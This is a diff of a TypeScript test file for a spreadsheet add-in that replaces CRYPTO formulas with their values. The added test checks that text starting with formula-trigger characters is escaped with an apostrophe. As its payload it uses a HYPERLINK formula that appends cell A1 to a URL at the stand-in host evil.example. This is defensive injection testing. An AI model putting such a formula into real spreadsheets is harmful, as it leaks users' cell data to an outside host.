@@ -9,7 +9,8 @@ const NOTE = "Cryptometrics values as of 2025-06-15 12:00:00 UTC";
  * A selection A1:B2 holding: A1 a CRYPTO.METRIC spilling over A1:B3 (dates as formatted numbers), B1 a
  * SUM (must stay), A2 a cell of A1's spill, B2 a lower-case crypto.value with a plain result.
  */
-function workbook(options: { noteFails?: boolean } = {}) {
+function workbook(options: { noteFails?: boolean; text?: string } = {}) {
+  const text = options.text ?? "=looks like a formula";
   const notes: [string, string][] = [];
   const comments: [string, string][] = [];
   const context = mock({
@@ -32,7 +33,7 @@ function workbook(options: { noteFails?: boolean } = {}) {
               values: [
                 ["Date", "fees"],
                 [45292, 1200.5],
-                [45293, "=looks like a formula"],
+                [45293, text],
               ],
               numberFormat: [
                 ["General", "General"],
@@ -50,7 +51,7 @@ function workbook(options: { noteFails?: boolean } = {}) {
                 ],
                 [
                   { type: "Double", basicValue: 45293, numberFormat: "yyyy-mm-dd" },
-                  { type: "String", basicValue: "=looks like a formula" },
+                  { type: "String", basicValue: text },
                 ],
               ],
             },
@@ -149,6 +150,21 @@ test("replaces CRYPTO formulas (whole spills, any case) by their values and keep
   expect(wb.cells.c00.values).toEqual([["Date"]]);
   expect(wb.notes).toEqual([["Sheet1!A1", NOTE]]);
 });
+
+test.each(["=", "+", "-", "@", "\t", "\r"])(
+  "writes a result's text starting with %j back as text, and its numbers as numbers",
+  async (lead) => {
+    const text = `${lead}HYPERLINK("http://evil.example/?"&A1,"x")`;
+    const wb = workbook({ text });
+    await freezeToValues({ run: runOn(wb.context), supports: all }, "selection", NOTE);
+    expect((wb.cells.c00.spill as Mock).values).toEqual([
+      ["Date", "fees"],
+      [45292, 1200.5],
+      [45293, `'${text}`],
+    ]);
+    expect(wb.cells.c11.values).toEqual([[98765.4]]);
+  }
+);
 
 test("an Excel without notes gets the 'as of' text as a comment", async () => {
   const wb = workbook();
